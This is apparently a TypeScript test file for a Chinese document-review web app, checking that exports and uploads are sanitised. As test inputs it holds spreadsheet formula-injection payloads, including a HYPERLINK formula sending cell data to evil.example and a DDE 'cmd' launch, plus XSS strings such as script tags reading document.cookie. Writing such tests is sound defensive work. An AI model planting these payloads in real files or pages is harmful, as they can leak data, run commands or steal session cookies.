/** Exports and uploads: formula cells, HTML in Markdown, desk uploads by content, download names, the storage quota. */
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CleanupStore } from '../../src/cleanup/cleanup-store.js';
import { periodOf, periodReportMarkdown } from '../../src/desk/period-report.js';
import { ingestText } from '../../src/ingest/ingest.js';
import { exceljsReader, exceljsWriter } from '../../src/node/xlsx.js';
import { findingsMarkdown } from '../../src/report/findings-text.js';
import { parseCsv } from '../../src/tabular/csv.js';
import { Store } from '../../src/store/store.js';
import { row } from '../cleanup/helpers.js';
import { apiToken, bearer, fixture, JSON_TYPE, testApp, upload, type TestApp } from '../server/helpers.js';
import { fastHasher, sampleReview } from '../store/helpers.js';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1'];

let t: TestApp;
beforeEach(async () => {
  t = await testApp({ spreadsheets: { reader: exceljsReader, writer: exceljsWriter } });
});
afterEach(() => t.close());

describe('the cleanup export', () => {
  it('keeps formula-like cells as text in .xlsx as in .csv', async () => {
    const cleanup = new CleanupStore(t.store);
    const { campaign } = await cleanup.importInventory({ campaign: '专项清理', rows: HOSTILE.map((title, i) => row(i + 1, { title, department: HOSTILE[(i + 1) % HOSTILE.length] as string })) }, null);
    const admin = await apiToken(t, t.users.admin.id);

    const xlsx = await t.app.request(`/api/cleanup/campaigns/${campaign.id}/export?format=xlsx`, { headers: bearer(admin) });
    expect(xlsx.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0]!.eachRow((r) => r.eachCell((cell) => cells.push(cell)));
    expect(cells.length).toBeGreaterThan(HOSTILE.length * 2);
    for (const cell of cells) {
      expect(cell.type, String(cell.value)).not.toBe(ExcelJS.ValueType.Formula);
      if (typeof cell.value === 'string') expect(cell.value, cell.value).not.toMatch(/^[=+\-@\t\r]/);
    }
    const texts = cells.map((c) => String(c.value));
    for (const h of HOSTILE) expect(texts).toContain(`'${h}`);

    const csv = await t.app.request(`/api/cleanup/campaigns/${campaign.id}/export?format=csv`, { headers: bearer(admin) });
    const rows = parseCsv(new TextDecoder().decode(await csv.arrayBuffer())).flatMap((r) => r.cells);
    for (const h of HOSTILE) expect(rows).toContain(`'${h}`);
  });

  it('the .xlsx writer itself never writes a formula', async () => {
    const bytes = await exceljsWriter.write([{ name: 's', rows: [['标题'], ...HOSTILE.map((h) => [h, 5])] }]);
    const read = await exceljsReader.readFirstSheet(bytes);
    expect(read.slice(1).map((r) => r.cells[0])).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(read[1]?.cells[1]).toBe(5);
  });
});

describe('Markdown reports', () => {
  it('write HTML from the draft as text', () => {
    const doc = ingestText('关于<script>alert(1)</script>的通知\n一、对<img src=x onerror=alert(1)>企业给予补助。\n');
    const { findings } = sampleReview();
    const f = { ...findings[0]!, start: doc.text.indexOf('<img'), end: doc.text.indexOf('企业'), title: '<b>问题</b>', suggestion: '删除 <iframe src=//evil>' };
    const md = findingsMarkdown(doc, [f]);
    expect(md).not.toMatch(/<(script|img|iframe|b)\b/i);
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('&lt;script&gt;');
  });

  it('escape department names in the period report tables', async () => {
    const period = periodOf('quarterly', 2026, 4);
    const md = periodReportMarkdown({
      period, until: period.to, warnings: ['<script>x</script>'], received: 0, receivedByType: { legality: 0, fair: 0, both: 0 } as never, priorityReceived: 0, priorityShare: null,
      earlyReceived: 0, closed: 0, closedOnTime: 0, closedLate: 0, urgent: 0, openAtEnd: 0, openOverdue: 0, overdue: 0, averageDaysToClose: null, reviews: 1, confirmedFindings: 1, precheck: { reviews: 2, findings: 3 },
      findingsByCategory: [{ category: '<img src=x>', count: 1 }], topDepartments: [{ department: '区<b>经信</b>局|x', count: 1, reviews: 1 }], campaign: null, byKind: [],
    } as never);
    expect(md).not.toMatch(/<(script|img|b)\b/);
    expect(md).toContain('区&lt;b&gt;经信&lt;/b&gt;局\\|x');
  });
});

describe('desk uploads and downloads', () => {
  async function newRequest(token: string): Promise<number> {
    const res = await t.app.request('/api/desk/requests', {
      method: 'POST', headers: bearer(token, JSON_TYPE),
      body: JSON.stringify({ department: '区经信局', title: '关于支持童装企业发展的若干措施', reviewType: 'legality', receivedOn: '2026-12-01' }),
    });
    expect(res.status).toBe(201);
    return ((await res.json()) as { id: number }).id;
  }
  const addVersion = (token: string, id: number, bytes: Uint8Array, name: string, type?: string) => {
    const form = new FormData();
    form.append('file', new File([bytes as Uint8Array<ArrayBuffer>], name, type ? { type } : {}));
    return t.app.request(`/api/desk/requests/${id}/versions`, { method: 'POST', headers: bearer(token), body: form });
  };

  it('checks versions by content and serves them with the sniffed type', async () => {
    const token = await apiToken(t, t.users.reviewer.id);
    const id = await newRequest(token);
    const html = new TextEncoder().encode('<html><script>alert(document.cookie)</script></html>');
    const pdf = new TextEncoder().encode('%PDF-1.7\n...');
    expect((await addVersion(token, id, pdf, '送审稿.docx', 'application/pdf')).status).toBe(422);
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3]);
    const refused = await addVersion(token, id, png, 'a.docx');
    expect(refused.status).toBe(422);
    expect(((await refused.json()) as { message: string }).message).toContain('图片');
    // text claimed to be HTML is stored and served as plain text, never text/html
    const ok = await addVersion(token, id, html, '送审稿.txt', 'text/html');
    expect(ok.status).toBe(201);
    const detail = (await (await t.app.request(`/api/desk/requests/${id}`, { headers: bearer(token) })).json()) as { versions: { documentHash: string }[] };
    const hash = detail.versions[0]!.documentHash;
    const got = await t.app.request(`/api/documents/${hash}`, { headers: bearer(token) });
    expect(got.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
    expect(got.headers.get('content-disposition')).toMatch(/^attachment;/);
    const docx = await addVersion(token, id, fixture('docx/article-typed.docx'), '第二稿.docx', 'text/html');
    expect(docx.status).toBe(201);
  });

  it('names a shared file by the requester’s own name, not the first uploader’s', async () => {
    const first = await apiToken(t, t.users.reviewer.id);
    const second = await apiToken(t, t.users.chief.id);
    const third = await apiToken(t, t.users.admin.id);
    const bytes = new TextEncoder().encode('关于支持童装企业发展的若干措施\n一、对企业给予补助。\n');
    const a = await newRequest(first);
    const b = await newRequest(second);
    expect((await addVersion(first, a, bytes, '内部讨论稿-勿外传.txt')).status).toBe(201);
    expect((await addVersion(second, b, bytes, '送审稿.txt')).status).toBe(201);
    const hash = ((await (await t.app.request(`/api/desk/requests/${b}`, { headers: bearer(second) })).json()) as { versions: { documentHash: string }[] }).versions[0]!.documentHash;
    const nameOf = async (token: string, query = '') => decodeURIComponent(/filename\*=UTF-8''(.*)$/.exec((await t.app.request(`/api/documents/${hash}${query}`, { headers: bearer(token) })).headers.get('content-disposition') ?? '')?.[1] ?? '');
    expect(await nameOf(second)).toBe('送审稿.txt');
    expect(await nameOf(first)).toBe('内部讨论稿-勿外传.txt');
    expect(await nameOf(third)).toBe('原始文件.txt');
    // the desk page links with the version's own name; a name nobody gave is not used
    expect(await nameOf(third, `?name=${encodeURIComponent('送审稿.txt')}`)).toBe('送审稿.txt');
    expect(await nameOf(third, `?name=${encodeURIComponent('伪造.exe')}`)).toBe('原始文件.txt');
  });

  it('refuses uploads beyond the storage quota in Chinese, keeping what is stored', async () => {
    const small = new Store(t.store.db, { hasher: fastHasher, storageQuotaBytes: 1000 });
    const doc = (n: number) => ({ bytes: new TextEncoder().encode(`第${n}稿\n${'条款内容。'.repeat(40)}`) as Uint8Array<ArrayBuffer>, fileName: `${n}.txt`, mime: 'text/plain' });
    await small.putDocument(doc(1), null);
    const refused = await small.putDocument(doc(2), null).catch((e: unknown) => e as { code: string; message: string });
    expect(refused).toMatchObject({ code: 'QUOTA' });
    expect((refused as { message: string }).message).toContain('存储空间已满');
    // the same bytes again cost nothing
    expect((await small.putDocument(doc(1), null)).created).toBe(false);
    expect((await small.storageUsage()).documents).toBe(1);

    // through the API: 507 with the Chinese message
    const app = (await import('../../src/server/app.js')).createApp({ store: small, sessionSecret: 'x'.repeat(32) });
    const token = await apiToken({ ...t, store: small }, t.users.reviewer.id);
    const res = await app.request('/api/reviews', { method: 'POST', headers: bearer(token), body: upload(doc(3).bytes, '3.txt') });
    expect(res.status).toBe(507);
    expect(((await res.json()) as { message: string }).message).toContain('存储空间已满');
  });
});
